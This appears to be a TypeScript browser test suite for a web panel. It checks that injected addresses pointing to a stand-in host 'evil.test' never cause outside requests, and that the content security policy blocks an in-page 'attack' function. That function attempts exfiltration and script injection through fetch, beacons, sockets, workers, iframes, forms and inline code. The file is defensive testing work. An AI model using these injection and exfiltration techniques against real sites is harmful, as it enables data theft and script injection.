import assert from "node:assert/strict";
import { test } from "node:test";
import { dynamicTask } from "./sample.ts";
import { TestPanel } from "./test-panel.ts";

const own = ["https://page.test/", "https://page.test/main.css", "https://page.test/main.js"];

const address = "https://evil.test/x.png";

/** The sample with addresses wherever a file may hold them. */
const withAddresses = dynamicTask
  .replaceAll("python:3.12", `"${address}"`)
  .replace("./preprocess.py", address)
  .replace("s3://bucket/{parameter:id}.csv", address)
  .replace("default: 5", `description: "<img src=${address}> [a](${address})"`);

test("asks for its own files only, whatever is shown and done", async (t) => {
  const panel = await new TestPanel(t, withAddresses).open();
  const { page } = panel;
  const list = JSON.stringify({ storeids: [address, `url(${address})`] });
  await page.getByRole("textbox", { name: "Metadata of preprocess" }).fill(list);
  await page.getByRole("heading", { name: "2 executions" }).waitFor();
  await page.getByRole("gridcell", { name: address }).first().click();
  await page.getByRole("region", { name: "Execution 1 of 2" }).waitFor();
  await page.getByRole("button", { name: "Columns" }).click();
  await page.keyboard.press("Escape");
  await page.getByRole("searchbox", { name: "Filter executions" }).fill(`id=${address}`);
  await page.getByText("1 of 2", { exact: true }).waitFor();
  await page.getByRole("button", { name: "What if…" }).click();
  await panel.edit(withAddresses.replace("    edges:\n", "    edges: [\n"));
  await page.getByText("Go to the error").waitFor();
  const asked = panel.shown.requests.filter((it) => !it.endsWith("/favicon.ico"));
  assert.deepEqual(asked.sort(), own);
});

test("the content policy keeps a script from the network and from other code", async (t) => {
  const panel = await new TestPanel(t, dynamicTask).open();
  const { page } = panel;
  const ran = await page.evaluate(attack);
  assert.deepEqual(ran, []);
  const left = panel.shown.requests.filter((it) => it.includes("evil"));
  assert.deepEqual(left, []);
  const faults = panel.shown.takeFaults();
  for (const directive of ["connect-src", "img-src", "script-src", "frame-src", "form-action"]) {
    assert.ok(
      faults.some((it) => it.includes(directive)),
      `${directive} stops nothing of ${faults.join("\n")}`,
    );
  }
});

/** Runs in the page: tries every way out, and answers with those that were open. */
async function attack(): Promise<readonly string[]> {
  const open: string[] = [];
  const host = "https://evil.test";
  const events = new Set<string>();
  document.addEventListener("securitypolicyviolation", (it) => events.add(it.effectiveDirective));
  await fetch(`${host}/fetch`).then(
    () => open.push("fetch"),
    () => undefined,
  );
  navigator.sendBeacon(`${host}/beacon`, "x");
  for (const connect of [
    () => new WebSocket("wss://evil.test/socket"),
    () => new EventSource(`${host}/events`),
    () => new Worker(`${host}/worker.js`),
  ]) {
    try {
      connect();
    } catch {
      // Refused at once.
    }
  }
  const add = (name: string, attributes: { readonly [name: string]: string }): HTMLElement => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  add("img", { src: `${host}/image`, onerror: "window.inline = true" });
  add("iframe", { src: `${host}/frame` });
  add("link", { rel: "stylesheet", href: `${host}/style` });
  add("script", { src: `${host}/script` });
  add("script", {}).textContent = "window.inline = true";
  add("object", { data: `${host}/object` });
  (add("form", { action: `${host}/form` }) as HTMLFormElement).submit();
  while (!events.has("form-action")) await new Promise((resolve) => setTimeout(resolve, 10));
  if ("inline" in window) open.push("inline script");
  setTimeout("window.compiled = true");
  await new Promise((resolve) => setTimeout(resolve));
  if ("compiled" in window) open.push("code from text");
  return open;
}
